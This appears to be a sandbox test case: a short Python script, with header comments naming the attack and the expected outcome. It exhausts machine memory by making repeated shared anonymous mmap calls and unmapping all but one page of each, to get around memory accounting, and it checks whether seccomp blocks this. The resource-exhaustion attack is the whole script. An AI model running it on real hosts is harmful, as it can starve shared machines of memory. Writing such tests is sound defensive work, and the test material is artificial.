# attack: memory, by shared anonymous mappings of which all but a page is let go: their files keep all pages
# wanted: OK
# after: the machine's memory is as before
# wall: seccomp (flags of mmap)
# control: breach
import ctypes

print("REACHED", flush=True)
PIECE, PAGE, SHARED_ANONYMOUS = 16 << 20, 4096, 0x21
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
libc.memset.argtypes = [ctypes.c_void_p, ctypes.c_int, ctypes.c_size_t]
held = 0
while held < 2 * @MEMORY@:
    area = libc.mmap(None, PIECE, 3, SHARED_ANONYMOUS, -1, 0)
    if area == ctypes.c_void_p(-1).value:
        print("refused", ctypes.get_errno())
        break
    libc.memset(area, 1, PIECE)
    libc.munmap(area + PAGE, PIECE - PAGE)
    held += PIECE >> 20
else:
    print("BREACH:", held, "MiB that no mapping counts", flush=True)
